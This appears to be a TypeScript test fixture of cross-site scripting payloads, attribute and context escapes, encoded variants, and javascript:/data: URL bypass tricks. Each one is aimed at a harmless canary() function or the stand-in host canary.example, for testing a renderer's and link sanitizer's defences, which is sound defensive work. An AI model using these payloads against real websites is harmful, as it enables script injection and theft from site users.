/** Texts that would run `canary()` or ask canary.example for something, if they were taken for more than text anywhere. */
export const attacks: readonly string[] = [
  ...tags(),
  ...escapes(),
  ...encodings(),
  // What our own renderer, template and data blocks leave for later steps to find.
  '<img src="media:01890000-0000-7000-8000-000000000001" data-caption="<img src=x onerror=canary()>">',
  '" data-caption="><img src=x onerror=canary()>',
  '<a href="media:01890000-0000-7000-8000-000000000001"><img src=x onerror=canary()></a>',
  '<a href="/"onclick="canary()">x</a>',
  '<!--head--><!--page--><!--state--><script>canary()</script>',
  "$& $1 $` $' $$ <img src=x onerror=canary()>",
  '</table></div><img src=x onerror=canary()>',
]

function tags(): string[] {
  return [
    '<script>canary()</script>',
    '<script src=https://canary.example/a.js></script>',
    '<scr<script>ipt>canary()</scr</script>ipt>',
    '<img src=x onerror=canary()>',
    "<img/src='x'/onerror=canary()>",
    '<img srcset="https://canary.example/a.png 1x">',
    '<image href=x onerror=canary()>',
    '<svg onload=canary()>',
    '<svg><script>canary()</script></svg>',
    '<svg><animate onbegin=canary() attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:canary()"><text x=1 y=9>x</text></a></svg>',
    '<math href="javascript:canary()">x</math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
    '<template><script>canary()</script></template>',
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    '<iframe src="javascript:parent.canary()"></iframe>',
    '<object data="javascript:canary()"></object>',
    '<embed src="https://canary.example/a.svg">',
    '<link rel=stylesheet href="https://canary.example/a.css">',
    '<style>@import "https://canary.example/a.css";</style>',
    '<div style="background:url(https://canary.example/b.png)">x</div>',
    '<p style="animation-name:x" onanimationstart=canary()>x</p>',
    '<base href="https://canary.example/">',
    '<meta http-equiv=refresh content="0;url=https://canary.example/">',
    '<form action="https://canary.example/"><button autofocus onfocus=canary()>x</button></form>',
    '<input autofocus onfocus=canary()>',
    '<details open ontoggle=canary()><summary>x</summary></details>',
    '<video><source onerror=canary()></video>',
    '<audio src=x onerror=canary()></audio>',
    '<body onload=canary()>',
    '<marquee onstart=canary()>x</marquee>',
    '<x contenteditable autofocus onfocus=canary()>x</x>',
    '<a href="javascript:canary()">x</a>',
    '<?php canary() ?><!DOCTYPE html [<!ENTITY x SYSTEM "https://canary.example/x">]>&x;',
  ]
}

function escapes(): string[] {
  return [
    '"><img src=x onerror=canary()>',
    "'><img src=x onerror=canary()>",
    '" autofocus onfocus="canary()" x="',
    "' autofocus onfocus='canary()' x='",
    '--><script>canary()</script><!--',
    ']]><script>canary()</script>',
    '</script><script>canary()</script>',
    '</title><script>canary()</script>',
    '</textarea><script>canary()</script>',
    '</style><script>canary()</script>',
    '</noscript><img src=x onerror=canary()>',
    '</template><img src=x onerror=canary()>',
    '</figcaption></figure></td></tr></table></div></div></main><script>canary()</script>',
    '","headline":"x"}</script><script>canary()</script>',
    '\\"});canary();({"x":"',
    '\\u003c/script\\u003e\\u003cscript\\u003ecanary()\\u003c/script\\u003e',
  ]
}

function encodings(): string[] {
  return [
    '&lt;img src=x onerror=canary()&gt;',
    '&#x3c;img src=x onerror=canary()&#x3e;',
    '&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
    '%3Cscript%3Ecanary()%3C/script%3E',
    '＜script＞canary()＜/script＞',
    '‹img src=x onerror=canary()›',
    '<ſcript>canary()</ſcript>',
    '{{constructor.constructor("canary()")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as a template would have it
    '${canary()} `${canary()}`',
    'javascript:canary()',
  ]
}

/** Addresses of links that the contract takes: they lead somewhere, and are no more than an address. */
export const takenAddresses: readonly string[] = [
  'https://canary.example/"onmouseover="canary()"autofocus="',
  "https://canary.example/'><svg/onload=canary()>",
  'https://canary.example/?<script>canary()</script>',
  'https://canary.example/&quot;onfocus=canary()',
  'http://canary.example/javascript:canary()',
  '/"><svg/onload=canary()>',
  '/javascript:canary()',
  '#"><svg/onload=canary()>',
  'mailto:a@canary.example"onfocus="canary()"autofocus="',
  'tel:+84-236',
]

/** Addresses that the contract refuses. */
export const refusedAddresses: readonly string[] = [
  'javascript:canary()',
  'JaVaScRiPt:canary()',
  'javascript://canary.example/%0Acanary()',
  ' javascript:canary()',
  'java\tscript:canary()',
  'java\nscript:canary()',
  '\u0001javascript:canary()',
  '\u00A0javascript:canary()',
  'javascript&colon;canary()',
  'javascript\uFF1Acanary()',
  'view-source:javascript:canary()',
  'data:text/html,<script>opener.canary()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"/>',
  'vbscript:canary()',
  'blob:https://canary.example/x',
  'filesystem:https://canary.example/x',
  'feed:javascript:canary()',
  '//canary.example/x',
  '/\\canary.example/x',
  '\\\\canary.example\\x',
  'https:/\\canary.example',
]
